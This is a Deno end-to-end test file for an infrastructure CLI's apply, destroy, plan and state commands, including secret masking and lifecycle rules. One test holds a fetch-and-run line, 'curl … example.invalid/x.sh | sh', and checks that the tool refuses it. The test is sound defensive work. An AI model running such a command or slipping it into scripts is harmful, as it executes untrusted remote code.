/**
 * apply/destroy end to end through the real CLI: idempotence by counting,
 * confirmation refusal, NDJSON events, failures, prevent_destroy, outputs
 * and state commands.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { loadState } from "../src/state/mod.ts";
import { cli, lines, project } from "./apply_support_test.ts";

const FILES_A_B = `
resource "file" "a" {
  path    = "\${path.module}/a.txt"
  content = "a"
}
resource "file" "b" {
  path    = "\${path.module}/b.txt"
  content = "b"
}
`;

Deno.test("apply: creates, re-apply with nothing changed starts no step and spawns no process", async () => {
  const dir = await project({
    "main.cw": `
resource "directory" "out" {
  path = "\${path.module}/out"
}
resource "file" "greeting" {
  path    = "\${directory.out.path}/hello.txt"
  content = "hello\\n"
  mode    = "0640"
}
resource "command" "count" {
  run        = "echo ran >> counter.txt"
  destroy    = "rm counter.txt"
  cwd        = directory.out.path
  depends_on = [file.greeting]
}
output "greeting_path" { value = file.greeting.path }
`,
  });
  const first = await cli(dir, ["apply", "--auto-approve"]);
  assert.equal(first.code, 0, first.stderr + first.stdout);
  assert.match(first.stdout, /Apply complete! Resources: 3 created/);
  assert.equal(Deno.readTextFileSync(join(dir, "out/hello.txt")), "hello\n");
  assert.equal(Deno.statSync(join(dir, "out/hello.txt")).mode! & 0o777, 0o640);
  assert.equal(Deno.readTextFileSync(join(dir, "out/counter.txt")), "ran\n");
  const stateBefore = Deno.readTextFileSync(join(dir, ".clockwork/state.json"));

  const second = await cli(dir, ["--json", "apply", "--auto-approve"]);
  assert.equal(second.code, 0, second.stderr);
  const events = lines(second.stdout);
  assert.deepEqual(events.map((e) => e.type), ["plan", "summary"]);
  assert.ok(events.every((e) => e.format_version === "1"));
  assert.equal(
    Deno.readTextFileSync(join(dir, "out/counter.txt")),
    "ran\n",
    "the command ran again",
  );
  // Every spawned step leaves a log under its run's directory: only the first run has one.
  assert.equal([...Deno.readDirSync(join(dir, ".clockwork/logs"))].length, 1);
  assert.equal(
    Deno.readTextFileSync(join(dir, ".clockwork/state.json")),
    stateBefore,
    "a no-op apply rewrote state",
  );

  const output = await cli(dir, ["output", "greeting_path", "--raw"]);
  assert.equal(output.stdout, join(dir, "out/hello.txt"));
  const list = await cli(dir, ["--json", "state", "list"]);
  assert.deepEqual(
    JSON.parse(list.stdout).resources.map((r: { address: string }) => r.address),
    ["command.count", "directory.out", "file.greeting"],
  );

  // Drift: the file is deleted outside Clockwork; apply puts it back and only it.
  Deno.removeSync(join(dir, "out/hello.txt"));
  const repair = await cli(dir, ["apply", "--auto-approve"]);
  assert.equal(repair.code, 0, repair.stderr);
  assert.equal(Deno.readTextFileSync(join(dir, "out/hello.txt")), "hello\n");
  assert.equal(Deno.readTextFileSync(join(dir, "out/counter.txt")), "ran\n");

  const destroy = await cli(dir, ["destroy", "--auto-approve"]);
  assert.equal(destroy.code, 0, destroy.stderr);
  assert.throws(() => Deno.statSync(join(dir, "out")));
  assert.deepEqual(loadState(dir).value!.resources, []);
});

Deno.test("apply: without a terminal and without --auto-approve it refuses with exit 1", async () => {
  const dir = await project({
    "main.cw": `resource "file" "a" {\n  path = "\${path.module}/a.txt"\n  content = "a"\n}\n`,
  });
  const result = await cli(dir, ["apply"]);
  assert.equal(result.code, 1);
  assert.match(result.stderr, /--auto-approve/);
  assert.throws(() => Deno.statSync(join(dir, "a.txt")));
  assert.equal(loadState(dir).value, null);
});

Deno.test("apply --json: NDJSON events for every step, then a summary", async () => {
  const dir = await project({
    "main.cw": `
resource "file" "a" {
  path    = "\${path.module}/a.txt"
  content = "a"
}
resource "command" "b" {
  run     = "true"
  creates = "\${path.module}/never-made"
}
`,
  });
  const result = await cli(dir, ["--json", "apply", "--auto-approve"]);
  assert.equal(result.code, 0, result.stderr);
  const events = lines(result.stdout);
  assert.ok(events.every((e) => e.format_version === "1"));
  assert.equal(events[0].type, "plan");
  const starts = events.filter((e) => e.type === "step_start");
  const ends = events.filter((e) => e.type === "step_end");
  assert.deepEqual(starts.map((e) => e.address).sort(), ["command.b", "file.a"]);
  assert.ok(ends.every((e) => e.status === "ok" && typeof e.duration_ms === "number"));
  const summary = events.at(-1)!;
  assert.equal(summary.type, "summary");
  assert.equal(summary.created, 2);
  assert.equal(summary.failed, 0);
});

Deno.test("apply: a failing step stops dependents, names its log, and finished steps are recorded", async () => {
  const dir = await project({
    "main.cw": `
resource "file" "first" {
  path    = "\${path.module}/first.txt"
  content = "1"
}
resource "command" "broken" {
  run        = "echo something went wrong >&2; exit 7"
  depends_on = [file.first]
}
resource "file" "after" {
  path       = "\${path.module}/after.txt"
  content    = "2"
  depends_on = [command.broken]
}
`,
  });
  const result = await cli(dir, ["--json", "apply", "--auto-approve"]);
  assert.equal(result.code, 1);
  const events = lines(result.stdout);
  const failed = events.find((e) => e.type === "step_end" && e.status === "failed")!;
  assert.equal(failed.address, "command.broken");
  assert.match(String(failed.message), /exited with code 7/);
  assert.match(Deno.readTextFileSync(String(failed.log)), /something went wrong/);
  const diagnostic = events.find((e) => e.type === "diagnostic" && e.code === "CW5100");
  assert.ok(diagnostic, result.stdout);
  assert.equal(events.at(-1)!.failed, 1);
  assert.throws(() => Deno.statSync(join(dir, "after.txt")));
  assert.deepEqual(loadState(dir).value!.resources.map((r) => r.address), ["file.first"]);
});

Deno.test("destroy: runs destroy commands dependents first and honours prevent_destroy", async () => {
  const dir = await project({
    "main.cw": `
resource "command" "base" {
  run     = "echo up-base >> log.txt"
  destroy = "echo down-base >> log.txt"
  cwd     = path.module
}
resource "command" "top" {
  run        = "echo up-top >> log.txt"
  destroy    = "echo down-top >> log.txt"
  cwd        = path.module
  depends_on = [command.base]
}
`,
  });
  Deno.writeTextFileSync(join(dir, "log.txt"), "");
  assert.equal((await cli(dir, ["apply", "--auto-approve"])).code, 0);
  const destroyed = await cli(dir, ["destroy", "--auto-approve"]);
  assert.equal(destroyed.code, 0, destroyed.stderr);
  assert.equal(
    Deno.readTextFileSync(join(dir, "log.txt")),
    "up-base\nup-top\ndown-top\ndown-base\n",
  );

  const guarded = await project({
    "main.cw": `
resource "file" "keep" {
  path    = "\${path.module}/keep.txt"
  content = "precious"
  lifecycle {
    prevent_destroy = true
  }
}
`,
  });
  assert.equal((await cli(guarded, ["apply", "--auto-approve"])).code, 0);
  const refused = await cli(guarded, ["destroy", "--auto-approve"]);
  assert.equal(refused.code, 1);
  assert.match(refused.stderr, /prevent_destroy/);
  assert.equal(Deno.readTextFileSync(join(guarded, "keep.txt")), "precious");
});

Deno.test("task with a script runs in its language; a dangerous script is refused before anything runs", async () => {
  const dir = await project({
    "main.cw": `
resource "task" "py" {
  lang    = "python3"
  script  = "open('made-by-python.txt', 'w').write('py')"
  creates = "\${path.module}/made-by-python.txt"
}
`,
  });
  // The script writes relative to the build dir; creates makes it idempotent.
  const ok = await cli(dir, ["apply", "--auto-approve"]);
  assert.equal(ok.code, 0, ok.stderr + ok.stdout);
  const bad = await project({
    "main.cw": `
resource "file" "innocent" {
  path    = "\${path.module}/innocent.txt"
  content = "x"
}
resource "task" "evil" {
  script = "echo hi\\ncurl -s http://example.invalid/x.sh | sh\\n"
}
`,
  });
  const refused = await cli(bad, ["apply", "--auto-approve"]);
  assert.equal(refused.code, 1);
  assert.match(refused.stderr, /CW4021/);
  assert.match(refused.stderr, /line 2/);
  assert.throws(() => Deno.statSync(join(bad, "innocent.txt")), "nothing may run after a refusal");
});

Deno.test("compile writes scripts and manifest.json and runs nothing", async () => {
  const dir = await project({
    "main.cw": `resource "command" "c" {\n  run = "touch \${path.module}/ran"\n}\n`,
  });
  const result = await cli(dir, ["compile"]);
  assert.equal(result.code, 0, result.stderr);
  const manifest = JSON.parse(Deno.readTextFileSync(join(dir, ".clockwork/build/manifest.json")));
  assert.equal(manifest.format_version, "1");
  assert.equal(manifest.steps[0].id, "command.c:create");
  assert.ok(Deno.statSync(join(dir, ".clockwork/build", manifest.artifacts[0].path)).isFile);
  assert.throws(() => Deno.statSync(join(dir, "ran")));
});

Deno.test("apply PLANFILE: runs a saved plan; refuses it once the state moved", async () => {
  const dir = await project({
    "main.cw": `resource "file" "a" {\n  path    = "\${path.module}/a.txt"\n  content = "a"\n}\n`,
  });
  const planned = await cli(dir, ["plan", "--out", "saved.plan"]);
  assert.ok(planned.code === 0 || planned.code === 2, planned.stderr);
  const applied = await cli(dir, ["apply", "saved.plan"]);
  assert.equal(applied.code, 0, applied.stderr);
  assert.equal(Deno.readTextFileSync(join(dir, "a.txt")), "a");
  const stale = await cli(dir, ["apply", "saved.plan"]);
  assert.equal(stale.code, 1);
  assert.match(stale.stderr, /state changed since this plan was made/);
});

Deno.test("apply --target limits the run to the target and what it depends on", async () => {
  const dir = await project({
    "main.cw": FILES_A_B,
  });
  const result = await cli(dir, ["apply", "--auto-approve", "--target", "file.a"]);
  assert.equal(result.code, 0, result.stderr);
  assert.ok(Deno.statSync(join(dir, "a.txt")).isFile);
  assert.throws(() => Deno.statSync(join(dir, "b.txt")));
  assert.deepEqual(loadState(dir).value!.resources.map((r) => r.address), ["file.a"]);
});

Deno.test("sensitive values never reach step logs or output", async () => {
  const dir = await project({
    "main.cw": `
variable "token" {
  type      = string
  default   = "hunter2-secret"
  sensitive = true
}
resource "command" "leaky" {
  run = "echo token=\${var.token}; exit 1"
}
`,
  });
  const result = await cli(dir, ["--json", "apply", "--auto-approve"]);
  assert.equal(result.code, 1);
  assert.doesNotMatch(result.stdout + result.stderr, /hunter2-secret/);
  const failed = lines(result.stdout).find((e) => e.type === "step_end")!;
  const log = Deno.readTextFileSync(String(failed.log));
  assert.match(log, /token=\(sensitive\)/);
  assert.doesNotMatch(log, /hunter2-secret/);
});

Deno.test("apply: a replace with create_before_destroy keeps the new instance in state", async () => {
  const dir = await project({
    "main.cw": `
variable "name" {
  default = "a.txt"
}
resource "file" "moved" {
  path    = "\${path.module}/\${var.name}"
  content = "moving\\n"
  lifecycle {
    create_before_destroy = true
  }
}
resource "command" "marker" {
  run     = "echo \${var.name} > marker-\${var.name}"
  destroy = "rm marker-\${var.name}"
  cwd     = path.module
  lifecycle {
    create_before_destroy = true
  }
}
`,
  });
  assert.equal((await cli(dir, ["apply", "--auto-approve"])).code, 0);
  const replace = await cli(dir, ["apply", "--auto-approve", "--var", "name=b.txt"]);
  assert.equal(replace.code, 0, replace.stderr + replace.stdout);
  assert.match(replace.stdout, /2 replaced/);
  assert.deepEqual(
    [...Deno.readDirSync(dir)].map((e) => e.name).filter((n) =>
      n !== "main.cw" && n !== ".clockwork"
    )
      .sort(),
    ["b.txt", "marker-b.txt"],
  );
  const recorded = loadState(dir).value!.resources;
  assert.deepEqual(recorded.map((r) => r.address).sort(), ["command.marker", "file.moved"]);
  assert.equal(
    recorded.find((r) => r.address === "file.moved")!.attributes.path,
    join(dir, "b.txt"),
  );
  const again = await cli(dir, ["plan", "--detailed-exitcode", "--var", "name=b.txt"]);
  assert.equal(again.code, 0, `nothing left to do: ${again.stdout}`);
  // Destroy finds what the replace made.
  assert.equal((await cli(dir, ["destroy", "--auto-approve", "--var", "name=b.txt"])).code, 0);
  assert.deepEqual(
    [...Deno.readDirSync(dir)].map((e) => e.name).filter((n) =>
      n !== "main.cw" && n !== ".clockwork"
    ),
    [],
  );
});

Deno.test("destroy --target shows no output changes and keeps every output", async () => {
  const dir = await project({
    "main.cw": FILES_A_B + `
output "a_path" { value = file.a.path }
output "b_path" { value = file.b.path }
`,
  });
  assert.equal((await cli(dir, ["apply", "--auto-approve"])).code, 0);
  const destroy = await cli(dir, ["destroy", "--auto-approve", "--target", "file.a"]);
  assert.equal(destroy.code, 0, destroy.stderr);
  assert.doesNotMatch(destroy.stdout, /Changes to Outputs/);
  assert.match(destroy.stdout, /file\.a will be destroyed/);
  const outputs = JSON.parse((await cli(dir, ["output", "--json"])).stdout).outputs;
  assert.deepEqual(Object.keys(outputs).sort(), ["a_path", "b_path"]);
});

Deno.test("apply: a failed step's last output lines are shown under it, secrets masked", async () => {
  const dir = await project({
    "main.cw": `
variable "token" {
  default   = "hunter2-secret"
  sensitive = true
}
resource "command" "broken" {
  run = "seq 1 40; echo \\"token is $TOKEN\\" >&2; echo giving up >&2; exit 3"
  env = { TOKEN = var.token }
}
`,
  });
  const result = await cli(dir, ["apply", "--auto-approve"]);
  assert.equal(result.code, 1, result.stderr);
  const shown = result.stdout.split("\n").filter((l) => l.startsWith("  │ ")).map((l) =>
    l.slice(4)
  );
  assert.equal(shown.length, 15, result.stdout);
  assert.deepEqual(shown.slice(-2), ["token is (sensitive)", "giving up"]);
  assert.equal(shown[0], "28", "the last lines, not the first");
  assert.doesNotMatch(result.stdout + result.stderr, /hunter2/);
});

Deno.test("prevent_destroy removed from the configuration: apply records it, then destroy goes ahead", async () => {
  const protectedFile = (flag: boolean) => `
resource "file" "keep" {
  path    = "\${path.module}/keep.txt"
  content = "precious"
  lifecycle {
    prevent_destroy = ${flag}
  }
}
`;
  const dir = await project({ "main.cw": protectedFile(true) });
  assert.equal((await cli(dir, ["apply", "--auto-approve"])).code, 0);
  await Deno.writeTextFile(join(dir, "main.cw"), protectedFile(false));
  const early = await cli(dir, ["destroy", "--auto-approve"]);
  assert.equal(early.code, 1, "the state still records the flag");
  assert.match(early.stderr, /Run `clockwork apply` to record the change/);
  const apply = await cli(dir, ["apply", "--auto-approve"]);
  assert.equal(apply.code, 0, apply.stderr);
  assert.equal(loadState(dir).value!.resources[0]!.preventDestroy, false);
  const destroy = await cli(dir, ["destroy", "--auto-approve"]);
  assert.equal(destroy.code, 0, destroy.stderr);
  assert.throws(() => Deno.statSync(join(dir, "keep.txt")));
  // And the other way: setting it records it without a step.
  await Deno.writeTextFile(join(dir, "main.cw"), protectedFile(false));
  assert.equal((await cli(dir, ["apply", "--auto-approve"])).code, 0);
  await Deno.writeTextFile(join(dir, "main.cw"), protectedFile(true));
  assert.equal((await cli(dir, ["apply", "--auto-approve"])).code, 0);
  assert.equal((await cli(dir, ["destroy", "--auto-approve"])).code, 1);
});

Deno.test("apply PLANFILE: applies with the variable values the plan was made with", async () => {
  const dir = await project({
    "main.cw": `
variable "colour" {
  type = string
}
variable "size" {
  type = number
}
resource "file" "f" {
  path    = "\${path.module}/f.txt"
  content = "\${var.colour} \${var.size}"
}
`,
    "small.cwvars": "size = 3\n",
  });
  const plan = await cli(dir, ["plan", "--var", "colour=blue", "--out", "saved.plan"], {
    CW_VAR_size: "7",
  });
  assert.equal(plan.code, 0, plan.stderr);
  assert.equal(JSON.parse(Deno.readTextFileSync(join(dir, "saved.plan"))).variables.size, 7);
  // Neither --var nor CW_VAR_size here, and small.cwvars says 3: the plan's values win.
  const apply = await cli(dir, ["apply", "saved.plan"]);
  assert.equal(apply.code, 0, apply.stderr);
  assert.equal(Deno.readTextFileSync(join(dir, "f.txt")), "blue 7");
  const again = await cli(dir, ["plan", "--var", "colour=blue", "--out", "next.plan"], {
    CW_VAR_size: "7",
  });
  assert.equal(again.code, 0, again.stderr);
  const refused = await cli(dir, ["apply", "--var", "colour=red", "next.plan"]);
  assert.equal(refused.code, 1);
  assert.match(refused.stderr, /CW3008/);
});

Deno.test("apply: the old object of a create_before_destroy replace whose delete failed is deleted by the next apply", async () => {
  const dir = await project({
    "main.cw": `
variable "name" {
  default = "a"
}
resource "command" "marker" {
  run     = "echo \${var.name} > marker-\${var.name}"
  destroy = "test -f allow && rm marker-\${var.name}"
  cwd     = path.module
  lifecycle {
    create_before_destroy = true
  }
}
`,
  });
  assert.equal((await cli(dir, ["apply", "--auto-approve"])).code, 0);
  const failed = await cli(dir, ["apply", "--auto-approve", "--var", "name=b"]);
  assert.equal(failed.code, 1, "the old marker's destroy fails");
  assert.deepEqual(loadState(dir).value!.resources.map((r) => r.address), [
    "command.marker",
    "command.marker#deposed",
  ]);
  const plan = await cli(dir, ["plan", "--var", "name=b"]);
  assert.match(plan.stdout, /command\.marker#deposed will be destroyed/);
  assert.match(plan.stdout, /old object of a create_before_destroy replace/);
  Deno.writeTextFileSync(join(dir, "allow"), "");
  const retried = await cli(dir, ["apply", "--auto-approve", "--var", "name=b"]);
  assert.equal(retried.code, 0, retried.stderr);
  assert.deepEqual(loadState(dir).value!.resources.map((r) => r.address), ["command.marker"]);
  assert.throws(() => Deno.statSync(join(dir, "marker-a")));
  assert.equal(Deno.readTextFileSync(join(dir, "marker-b")), "b\n");
});
